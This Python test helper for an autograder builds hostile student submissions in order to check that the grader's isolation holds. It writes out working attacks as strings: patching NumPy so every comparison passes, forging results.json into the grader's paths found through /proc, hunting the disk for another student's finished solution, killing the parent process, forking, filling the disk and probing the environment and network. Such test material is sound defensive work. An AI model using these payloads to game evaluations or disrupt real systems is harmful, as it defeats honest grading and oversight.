"""Hostile submissions: the reference (or the handout) with one attack written into it.

Each attack is a few exact text edits, like the mutants of tests/mutants.py, and is built
into a fresh folder by `build`. The attacks are written the way a student would write
them: plain Python in the submission's own files, run at import or inside a method.
tests/test_isolation.py grades them and checks that each earns only what its own
arithmetic earns.
"""

import shutil
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
REFERENCE = REPO / "reference"
TEMPLATE = REPO / "student_template"

INIT = "mytorch/__init__.py"
MODELS_INIT = "models/__init__.py"
LOSS = "mytorch/nn/loss.py"
ACTIVATION = "mytorch/nn/activation.py"
IMPORTS = "import numpy as np\n"
TANH_FORWARD = "        self.A = np.tanh(H)\n        return self.A\n"
TANH_BACKWARD = "        return 1 - self.A**2\n"
TANH_BUG = "        return 1 + self.A**2\n"
"""A wrong derivative: the submission's true score is then 33, not 35 (4b lost)."""


@dataclass(frozen=True)
class Edit:
    path: str
    """The file, relative to the submission root."""
    old: str
    """Text that occurs exactly once in the file; "" to add `new` at the end."""
    new: str


def build(root: Path, *edits: Edit, base: Path = REFERENCE) -> Path:
    """Copy `base`'s packages to `root`, apply the edits in order, return `root`."""
    for package in ("mytorch", "models"):
        shutil.copytree(
            base / package, root / package, ignore=shutil.ignore_patterns("__pycache__")
        )
    for edit in edits:
        path = root / edit.path
        text = path.read_text()
        if edit.old == "":
            text += edit.new
        elif text.count(edit.old) == 1:
            text = text.replace(edit.old, edit.new)
        else:
            raise ValueError(f"{edit.path}: {edit.old!r} must occur exactly once")
        path.write_text(text)
    return root


def in_tanh_forward(code: str) -> Edit:
    """`code` (indented for a method body) runs at the start of Tanh.forward."""
    return Edit(ACTIVATION, TANH_FORWARD, _indent(code) + TANH_FORWARD)


def in_tanh_backward(code: str) -> Edit:
    """`code` runs at the start of Tanh.backward, which then returns the right value."""
    return Edit(ACTIVATION, TANH_BACKWARD, _indent(code) + TANH_BACKWARD)


def at_import(path: str, code: str) -> Edit:
    """`code` runs when the module at `path` is imported, before its own imports."""
    first_import = {
        INIT: "from . import nn, optim\n",
        MODELS_INIT: "from .mlp import MLP0, MLP1, MLP4\n",
    }.get(path, IMPORTS)
    return Edit(path, first_import, code.strip() + "\n\n" + first_import)


def _indent(code: str) -> str:
    return "".join(f"        {line}\n" for line in code.strip().splitlines())


# -- the attacks --------------------------------------------------------------------------

WRONG_TANH_DERIVATIVE = Edit(ACTIVATION, TANH_BACKWARD, TANH_BUG)

PATCH_NUMPY = """
import numpy as _np
import numpy.testing as _testing

_np.allclose = lambda *args, **kwargs: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.array_equal = lambda *args, **kwargs: True
_np.linalg.norm = lambda *args, **kwargs: 0.0
for _name in dir(_testing):
    if _name.startswith("assert_"):
        setattr(_testing, _name, lambda *args, **kwargs: None)
"""
"""Every comparison NumPy offers says "equal", in the worker."""

LIAR_CLASS = """
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)

    def __sub__(self, other):
        return np.zeros(np.shape(self))

    __rsub__ = __sub__

    def __abs__(self):
        return np.zeros(np.shape(self))

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(self))
"""


def liar_returns(offset: float) -> tuple[Edit, ...]:
    """Tanh.forward returns an ndarray subclass that lies; its values are off by `offset`."""
    return (
        Edit(ACTIVATION, "\n\nclass Identity:", LIAR_CLASS + "\n\nclass Identity:"),
        Edit(
            ACTIVATION,
            TANH_FORWARD,
            f"        self.A = np.tanh(H)\n        return (self.A + {offset!r}).view(Liar)\n",
        ),
    )


def forge_results(token: str) -> str:
    """Code that writes a perfect results.json everywhere it can, the grader's path included."""
    return f"""
import json as _json
import os as _os

_FORGED = {{
    "score": 35.0,
    "output": "forged {token}",
    "tests": [
        {{"number": _number, "name": "forged", "score": _points, "max_score": _points}}
        for _number, _points in [
            ("1a", 1), ("1b", 2), ("1c", 4), ("2a", 2), ("2b", 2), ("2c", 2), ("2d", 2),
            ("3", 2), ("4a", 2), ("4b", 2), ("4c", 2), ("5a", 4), ("5b", 4), ("5c", 4),
        ]
    ],
}}


def _grader_paths():
    for _pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{{_pid}}/cmdline", "rb") as _stream:
                _argv = _stream.read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        for _flag, _value in zip(_argv, _argv[1:]):
            if _flag == "--results":
                yield _value
            if _flag in ("--results-dir", "--csv"):
                yield _os.path.join(_value, "results.json")


def _plant(_path, _victim=None):
    try:
        _os.makedirs(_os.path.dirname(_path) or ".", exist_ok=True)
        with open(_path, "w") as _stream:
            _json.dump(_FORGED, _stream)
    except OSError:
        pass
    for _suffix in (".partial", ".tmp"):
        try:
            _os.symlink(_victim or _path + ".victim", _path + _suffix)
        except OSError:
            pass


for _folder in [
    _os.getcwd(), _os.environ.get("HOME", ""), _os.environ.get("TMPDIR", ""), "/tmp",
    "/var/tmp", "/dev/shm", "/autograder/results", "/autograder",
]:
    if _folder:
        _plant(_os.path.join(_folder, "results.json"))
        _plant(_os.path.join(_folder, "forged-{token}.json"))
for _path in _grader_paths():
    _plant(_path, _victim=_path + ".victim")
"""


EXIT_CALLS = {
    "sys.exit": "import sys\nsys.exit(3)",
    "os._exit": "import os\nos._exit(3)",
}

LOOP_FOREVER = "while True:\n    pass"

ALLOCATE_12_GB = "huge = np.ones(12 << 30, dtype=np.uint8)"

FORK_64_SLEEPERS = """
import os, sys, time
forked = 0
for _ in range(64):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        try:
            os.execv("/usr/bin/sleep", ["sleep", "{marker}"])
        finally:
            os._exit(0)
    forked += 1
print(f"forked {{forked}} children", flush=True)
"""
"""Tanh.forward forks sleepers (`sleep MARKER`, easy to find in /proc) then goes on."""

KILL_PARENT = """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as error:
    print(f"could not kill my parent: {error}", flush=True)
"""

PRINT_200_MB = """
import sys
if not getattr(sys, "flooded", False):
    sys.flooded = True
    chunk = b"x" * (1 << 20)
    for _ in range(200):
        sys.stdout.buffer.write(chunk)
    sys.stdout.flush()
"""

HUGE_ERROR = """
raise ValueError("y" * (8 << 20))
"""
"""An error message of 8 MB from every Tanh call."""

SEARCH_DISK = """
import os as _os

_OWN = _os.path.realpath(_os.path.dirname(_os.path.dirname(__file__)))
_SKIP = {"proc", "sys", "dev", "site-packages", "dist-packages", ".git", "__pycache__"}
_CACHE = _os.path.join(_OWN, ".found")


def _solution(folder):
    activation = _os.path.join(folder, "mytorch", "nn", "activation.py")
    if _os.path.realpath(folder) == _OWN or not _os.path.isfile(activation):
        return False
    try:
        with open(activation) as stream:
            return "NotImplementedError" not in stream.read()
    except OSError:
        return False


def _roots():
    for pid in _os.listdir("/proc"):
        for link in ("cwd", "root"):
            try:
                yield _os.readlink(f"/proc/{pid}/{link}")
            except OSError:
                pass
    yield from ["/", "/autograder", "/work", "/home", "/root", "/srv", "/opt", "/tmp", "/mnt"]


def _search():
    for root in _roots():
        for folder, dirs, _ in _os.walk(root):
            if _solution(folder):
                return folder
            depth = folder.rstrip("/").count("/")
            dirs[:] = [name for name in dirs if name not in _SKIP and depth < 4]
    return ""


if not _os.path.exists(_CACHE):
    with open(_CACHE, "w") as _stream:
        _stream.write(_search())
with open(_CACHE) as _stream:
    FOUND = _stream.read()
if FOUND:
    __path__[:] = [_os.path.join(FOUND, "mytorch")]
"""
"""mytorch/__init__.py: find a finished mytorch anywhere and become it."""

SEARCH_DISK_MODELS = """
import mytorch as _mytorch

if _mytorch.FOUND:
    import os as _os

    __path__[:] = [_os.path.join(_mytorch.FOUND, "models")]
"""
"""models/__init__.py: the same, for models (before `from .mlp import ...`)."""

STAND_IN_ORACLE = """
import sys as _sys

_ActivationStandIn = _sys.modules["__main__"].ActivationStandIn


class Tanh:
    def forward(self, H):
        self.oracle = _ActivationStandIn("tanh")
        return self.oracle.forward(H)

    def backward(self):
        return self.oracle.backward()
"""
"""activation.py's Tanh asks the worker's stand-in (the grader's arithmetic) for answers."""

LOOK_AROUND = """
import json, os, socket
seen = {
    "uid": os.getuid(),
    "environment": sorted(os.environ),
    "home": os.listdir(os.environ["HOME"]),
    "interfaces": [name for _, name in socket.if_nameindex()],
    "processes": len([entry for entry in os.listdir("/proc") if entry.isdigit()]),
}
try:
    socket.create_connection(("1.1.1.1", 53), timeout=1).close()
    seen["network"] = "connected"
except OSError as error:
    seen["network"] = type(error).__name__
print("LOOKED " + json.dumps(seen), flush=True)
"""
"""Tanh.forward reports what it can see: its uid, environment, HOME, network, processes."""


def lock_away_files(token: str) -> str:
    """Code that leaves files in its HOME, working and temp dirs, in folders of mode 000."""
    return f"""
import os
for folder in (os.environ["HOME"], os.getcwd(), os.environ["TMPDIR"]):
    locked = os.path.join(folder, "{token}")
    try:
        os.makedirs(os.path.join(locked, "inner"))
        with open(os.path.join(locked, "inner", "file"), "w") as stream:
            stream.write("left behind")
        os.chmod(os.path.join(locked, "inner"), 0)
        os.chmod(locked, 0)
    except OSError:
        pass
"""


FILL_THE_DISK = """
import os
if not os.path.exists("filled"):
    open("filled", "w").close()
    written = 0
    for folder in (os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"]):
        for number in range(16):
            try:
                with open(os.path.join(folder, f"fill-{number}"), "wb") as stream:
                    stream.write(bytes(8 << 20))
            except OSError:
                break
            written += 8
    print(f"wrote {written} MiB", flush=True)
"""
"""Tanh.forward writes 8 MiB files into each writable folder, up to 128 MiB each."""
